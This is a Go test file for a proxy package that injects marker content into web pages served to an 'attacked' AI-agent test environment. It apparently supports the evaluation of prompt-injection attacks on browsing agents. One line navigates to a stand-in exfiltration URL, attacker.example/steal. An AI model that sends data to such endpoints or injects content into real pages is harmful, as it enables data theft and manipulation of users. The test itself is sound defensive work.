package netroute

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// marker is an Injector that appends a marker to every document and keeps
// the URLs it is told of.
type marker struct {
	mu   sync.Mutex
	saw  []string
	text string
}

func (m *marker) Saw(req *http.Request) {
	m.mu.Lock()
	m.saw = append(m.saw, req.Method+" "+req.URL.String())
	m.mu.Unlock()
}

func (m *marker) Document(_ *http.Request, body []byte) []byte {
	return append(body, m.text...)
}

// An injector rewrites the documents its table's contexts navigate to,
// and nothing else: not their other resources, not another table's
// contexts, not the table's own client.
func TestInjectorRewritesOnlyItsTablesDocuments(t *testing.T) {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
		} else {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Header().Set("ETag", `"v1"`)
		}
		fmt.Fprintf(w, "<p>page %s</p>", r.URL.Path)
	}))
	t.Cleanup(s.Close)
	r := newRouter(t, Options{})
	attacked, clean := tableWith(t, Policy{}, s), tableWith(t, Policy{}, s)
	m := &marker{text: "<b>INJECTED</b>"}
	attacked.SetInjector(m)
	ca, cc := proxyClient(t, newRoute(t, r, attacked)), proxyClient(t, newRoute(t, r, clean))

	got := get(t, ca, shop+"/a", navigate...)
	if got.body != "<p>page /a</p><b>INJECTED</b>" {
		t.Fatalf("the attacked environment's document is %q, want the page with the injection", got.body)
	}
	if got.header.Get("Cache-Control") != "no-store" || got.header.Get("ETag") != "" {
		t.Fatalf("a rewritten document must not be cached (Cache-Control %q, ETag %q)", got.header.Get("Cache-Control"), got.header.Get("ETag"))
	}
	if got := get(t, ca, shop+"/x.js"); strings.Contains(got.body, "INJECTED") {
		t.Fatalf("a script was rewritten: %q", got.body)
	}
	if got := get(t, ca, shop+"/api", "Accept", "*/*"); strings.Contains(got.body, "INJECTED") {
		t.Fatalf("a fetch (Accept */*) was rewritten: %q", got.body)
	}
	if got := get(t, cc, shop+"/a", navigate...); strings.Contains(got.body, "INJECTED") {
		t.Fatalf("another environment's document was rewritten: %q", got.body)
	}
	resp, err := attacked.Client().Get(shop + "/a")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.ContentLength != int64(len("<p>page /a</p>")) {
		t.Fatalf("the table's own client (grading) got a rewritten document: length %d", resp.ContentLength)
	}
	get(t, ca, "http://attacker.example/steal?x=1", navigate...) // refused by the hosted policy, but seen
	m.mu.Lock()
	defer m.mu.Unlock()
	if want := "GET http://attacker.example/steal?x=1"; len(m.saw) == 0 || m.saw[len(m.saw)-1] != want {
		t.Fatalf("the injector saw %q, want it last told of %q", m.saw, want)
	}
}
